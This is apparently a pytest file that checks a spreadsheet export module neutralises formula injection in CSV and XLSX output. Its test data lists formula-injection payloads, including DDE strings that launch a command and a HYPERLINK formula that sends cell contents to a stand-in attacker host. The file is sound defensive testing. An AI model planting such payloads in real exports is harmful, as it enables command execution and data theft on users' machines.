"""The one spreadsheet writer: text that a spreadsheet would run as a formula is written inert, numbers stay
numbers, and an XLSX never holds a formula cell made from text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from sibina import sheets

# The payloads of issue 9 (formula injection), and the two whitespace starts.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def as_read_back(text: str) -> str:
    """XML reads a carriage return in text as a line feed (XML 1.0 §2.11): the cell is still text."""
    return text.replace("\r", "\n")


def xlsx_cells(data: bytes) -> list[list[tuple[object, str]]]:
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_starting_like_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert read_csv(sheets.csv_text(["kolom"], [[payload]])) == [["kolom"], ["'" + payload]]


def test_csv_leaves_numbers_dates_and_plain_text_as_they_are() -> None:
    text = sheets.csv_text(
        ["a", "b", "c", "d", "e", "f", "g"],
        [[-5, Decimal("-1.50"), 2.5, dt.date(2027, 1, 2), None, "Dinas Kesehatan", "a=b"]],
    )
    assert text == "a,b,c,d,e,f,g\r\n-5,-1.50,2.5,2027-01-02,,Dinas Kesehatan,a=b\r\n"


def test_csv_lines_stream_the_same_text_line_by_line() -> None:
    rows = [["=1", 1], ["ok", -2]]
    assert list(sheets.csv_lines(["x", "y"], rows)) == ["x,y\r\n", "'=1,1\r\n", "ok,-2\r\n"]
    assert "".join(sheets.csv_lines(["x", "y"], rows)) == sheets.csv_text(["x", "y"], rows)


def test_xlsx_text_is_never_a_formula_cell_and_keeps_its_value() -> None:
    wb = Workbook()
    ws = sheets.xlsx_sheet(wb, "Data", first=True)
    sheets.xlsx_append(ws, PAYLOADS)
    sheets.xlsx_append(ws, [-5, 2.5, True, None, "biasa"])
    first, second = xlsx_cells(sheets.xlsx_bytes(wb))
    assert first == [(as_read_back(p), "s") for p in PAYLOADS]
    assert second[:5] == [(-5, "n"), (2.5, "n"), (True, "b"), (None, "n"), ("biasa", "s")]


def test_xlsx_text_that_looks_like_a_formula_keeps_a_quote_prefix_for_editing() -> None:
    wb = Workbook()
    ws = sheets.xlsx_sheet(wb, "Data", first=True)
    sheets.xlsx_append(ws, ["=1+1", "biasa"])
    ws = load_workbook(io.BytesIO(sheets.xlsx_bytes(wb))).active
    assert ws is not None
    assert (ws["A1"].quotePrefix, ws["B1"].quotePrefix) == (True, False)


def test_xlsx_control_characters_are_shown_not_refused() -> None:
    wb = Workbook()
    ws = sheets.xlsx_sheet(wb, "Data", first=True)
    sheets.xlsx_append(ws, ["a\x00b\x07c"])
    assert xlsx_cells(sheets.xlsx_bytes(wb)) == [[("a\ufffdb\ufffdc", "s")]]
